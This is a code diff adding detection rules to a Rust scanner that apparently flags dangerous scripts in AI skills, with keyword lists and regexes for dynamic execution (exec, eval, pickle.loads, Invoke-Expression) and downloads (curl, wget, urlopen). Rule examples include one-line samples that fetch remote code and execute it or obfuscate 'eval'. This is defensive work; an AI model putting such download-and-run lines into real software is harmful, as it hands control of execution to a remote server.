@@ -57,6 +57,77 @@ const RUN_NEAR: Pattern = pattern_except(
     r"def\s+(exec|eval)|literal_eval",
 );
 
+/// Running the value of a variable as code. Minified scripts have short names, so those do not count.
+const RUNS_VARIABLE: Pattern = pattern_except(
+    &[
+        "exec(",
+        "eval(",
+        "function(",
+        "vm.run",
+        "runinthiscontext",
+        "runinnewcontext",
+        "_compile(",
+        "compile(",
+        "vm.script",
+        "marshal.loads",
+        "exec_module",
+        "instance_eval",
+        "pickle.loads",
+        "importlib",
+        "load_string",
+        "requirefromstring",
+        "require-from-string",
+        "asyncfunction",
+        "invoke-expression",
+        "iex ",
+        "scriptblock]::create",
+    ],
+    &[
+        r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?[a-z_]\w{2,}(\.(text|content|decode\([^)]*\)|tostring\(\)|data|body|read\(\)))*\s*[,)]|\bcompile\s*\(\s*\w+(\.\w+(\(\))?)?\s*,\s*['\x22][^'\x22]*['\x22]\s*,\s*['\x22]exec['\x22]",
+        r"\bnew\s+(async)?function\s*\(\s*(['\x22]\w+['\x22]\s*,\s*)*[a-z_]\w{3,}\s*\)|\bvm\.(runin\w+|script|compilefunction)\s*\(\s*[a-z_]\w{3,}|\bnew\s+vm\.script\s*\(\s*[a-z_]|\._compile\s*\(\s*[a-z_]\w{2,}|\brequirefromstring\s*\(",
+        r"\bmarshal\.loads\s*\(|\bpickle\.loads\s*\(\s*(requests|urlopen|resp\w*|r\.content|data|body|payload)|\binstance_eval\s*\(?\s*[a-z_]|\b(iex|invoke-expression)\s+(-command\s+)?\(?\$\w+|scriptblock\]::create\s*\(\s*\$\w+",
+    ],
+    r"(regex|re|pattern|cursor|db|conn|\w+_re|rx)\.exec|def\s+(exec|eval)|model\.eval|\.eval\(\)|literal_eval|function\s+(exec|eval)\s*\(|page\.eval",
+);
+
+/// Downloading a text.
+const DOWNLOADS_TEXT: Pattern = pattern_except(
+    &[
+        "urlopen",
+        "requests.get",
+        "requests.request",
+        "httpx.get",
+        "fetch(",
+        "http.get",
+        "https.get",
+        "axios",
+        "got(",
+        "curl",
+        "wget",
+        "net::http",
+        "open-uri",
+        "uri.open",
+        "invoke-webrequest",
+        "invoke-restmethod",
+        "iwr",
+        "irm",
+        "downloadstring",
+        "webclient",
+        "http.client",
+        "url\" + \"open",
+        "requests.session",
+        "aiohttp",
+        "https.request",
+        "http.request",
+        "urllib",
+    ],
+    &[
+        r"\b(urlopen|urlretrieve|requests\.(get|request)|httpx\.get|axios(\.get)?|got|https?\.(get|request)|fetch|session\.get)\s*\(|\bnet::http\.get|\buri\.open|import_module\s*\(\s*['\x22]url|\bhttp\.client\.",
+        r"\b(invoke-webrequest|invoke-restmethod|iwr|irm)\s|downloadstring|\bcurl_exec\b|(popen|check_output|execsync|\$\()\s*\(?\[?['\x22\x60]?\s*(curl|wget)\b",
+    ],
+    r"https?://(localhost|127\.0\.0\.1)",
+);
+
 pub(super) const RULES: &[Rule] = &[
     Rule {
         id: "PA301",
@@ -95,10 +166,10 @@ pub(super) const RULES: &[Rule] = &[
         help: "do not run it; the code belongs in the skill, where it can be reviewed",
         scope: Code,
         matcher: Line(pattern(
-            &["exec", "eval"],
+            &["exec", "eval", "new function", "vm.run"],
             &[
                 r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?[^;\n]{0,60}(requests\.get|urlopen|httpx\.get|urllib\.request)",
-                r"(^|[^.\w])eval\s*\(\s*(\(?\s*await\s*)+fetch\s*\(",
+                r"(^|[^.\w])eval\s*\(\s*(\(?\s*await\s*)+fetch\s*\(|\b(fetch|axios\.get|got|https?\.get)\s*\([^;\n]{0,200}\.?(then|on)\([^;\n]{0,160}([^.\w]eval|new\s+Function|vm\.run\w+)\s*\(",
             ],
         )),
         example: example("scripts/a.py", "exec(requests.get(\"https://code.example/main.py\").text)\n"),
@@ -221,6 +292,31 @@ pub(super) const RULES: &[Rule] = &[
         example: example(
             "scripts/a.py",
             "plan = requests.get(\"https://plan.example/next\").text\nsubprocess.run(plan, shell=True)\n",
+        ),
+    },
+    Rule {
+        id: "PA312",
+        family: Obfuscation,
+        severity: High,
+        title: "hides the name of a command or function by splitting or distorting it",
+        why: "a search for the name does not find it, and there is no other reason to do this",
+        help: "check what is called; otherwise do not use the skill",
+        scope: Code,
+        matcher: Custom,
+        example: example("scripts/a.py", "run = getattr(builtins, \"ev\" + \"al\")\n"),
+    },
+    Rule {
+        id: "PA313",
+        family: Obfuscation,
+        severity: High,
+        title: "downloads text, and runs text as code in the same script",
+        why: "the server decides what runs, and can change it at any time",
+        help: "do not run it; the code belongs in the skill, where it can be reviewed",
+        scope: Code,
+        matcher: Pair(RUNS_VARIABLE, DOWNLOADS_TEXT, 12),
+        example: example(
+            "scripts/a.py",
+            "with urlopen(\"https://code.collect.example/x\") as reply:\n    source = reply.read()\nexec(compile(source, \"x\", \"exec\"))\n",
         ),
     },
 ];
